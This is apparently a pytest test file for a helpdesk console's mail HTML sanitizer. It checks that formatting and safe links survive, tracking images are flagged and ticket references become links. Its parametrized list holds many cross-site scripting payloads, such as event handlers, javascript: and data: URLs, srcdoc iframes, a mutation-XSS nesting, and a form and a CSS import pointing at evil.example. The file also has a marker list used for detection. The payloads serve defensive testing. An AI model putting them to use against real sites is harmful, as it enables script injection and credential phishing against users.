"""Mail HTML through the allowlist: nothing that runs survives, formatting does, references become links."""
from __future__ import annotations

import pytest

from web.sanitize import clean_html, has_remote_images, link_references, reference_pattern, safe_mail_html

PATTERN = reference_pattern("HD")


def link(reference: str) -> str:
    return f"/tickets/{reference}"


@pytest.mark.parametrize("hostile", [
    "<script>window.__pwned = 1</script>",
    '<img src="x" onerror="window.__pwned = 1">',
    '<svg onload="window.__pwned = 1"><circle r="4"/></svg>',
    '<a href="javascript:window.__pwned = 1">click</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">click</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<body onload="alert(1)">x</body>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<div style="background:url(javascript:alert(1));position:fixed;top:0">x</div>',
    '<style>@import "https://evil.example/x.css";</style>',
])
def test_nothing_that_can_run_or_phone_home_survives(hostile: str) -> None:
    # Scripts, handlers, script URLs, SVG, frames, forms, refreshes and CSS tricks are all removed.
    cleaned = clean_html(hostile).lower()
    for marker in ("<script", "onerror", "onload", "javascript:", "<svg", "<iframe", "<object", "<embed", "<form",
                   "<input", "<meta", "<base", "<style", "position", "url(", "data:text", "svg+xml"):
        assert marker not in cleaned, (marker, cleaned)


def test_formatting_links_and_inline_images_survive() -> None:
    # Bold text, tables, colours, links (opening in a new tab without referrer) and embedded PNGs stay.
    cleaned = clean_html('<p style="color: red; margin: 0"><b>Hi</b></p><table><tr><td>1</td></tr></table>'
                         '<a href="https://aeropress.com/">site</a><img src="data:image/png;base64,iVBORw0KGgo=">')
    assert '<p style="color:red;margin:0"><b>Hi</b></p>' in cleaned and "<td>1</td>" in cleaned
    assert 'href="https://aeropress.com/"' in cleaned and 'target="_blank"' in cleaned and "noreferrer" in cleaned
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned


def test_remote_images_are_detected_so_they_can_be_blocked() -> None:
    # A tracking pixel is remote; an embedded image is not; relative sources (which would hit the console) go.
    assert has_remote_images(clean_html('<img src="https://pixel.example/open.gif">'))
    assert not has_remote_images(clean_html('<img src="data:image/png;base64,iVBORw0KGgo=">'))
    assert clean_html('<img src="//pixel.example/o.gif"><img src="/logout"><a href="x">y</a>') == \
        '<img><img><a target="_blank" rel="noopener noreferrer nofollow">y</a>'



def test_references_become_links_in_text_but_not_inside_tags_or_links() -> None:
    # HD-12 in the text is a link; in an attribute or inside an existing link it is left alone.
    out = safe_mail_html('<p title="HD-1>x">See HD-12.</p><a href="https://x.example/HD-3">HD-4</a>', PATTERN, link)
    assert '<a href="/tickets/HD-12" target="_blank" rel="noopener noreferrer nofollow">HD-12</a>' in out
    assert 'title="HD-1&gt;x"' in out and '<a href="https://x.example/HD-3"' in out and ">HD-4</a>" in out
    assert "/tickets/HD-1\"" not in out and "/tickets/HD-4" not in out


def test_plain_text_is_escaped_and_references_linked() -> None:
    # Customer text can never inject markup into the console.
    assert str(link_references("<b>HD-7</b> & HD-8x", PATTERN, link)) == \
        '&lt;b&gt;<a href="/tickets/HD-7">HD-7</a>&lt;/b&gt; &amp; HD-8x'
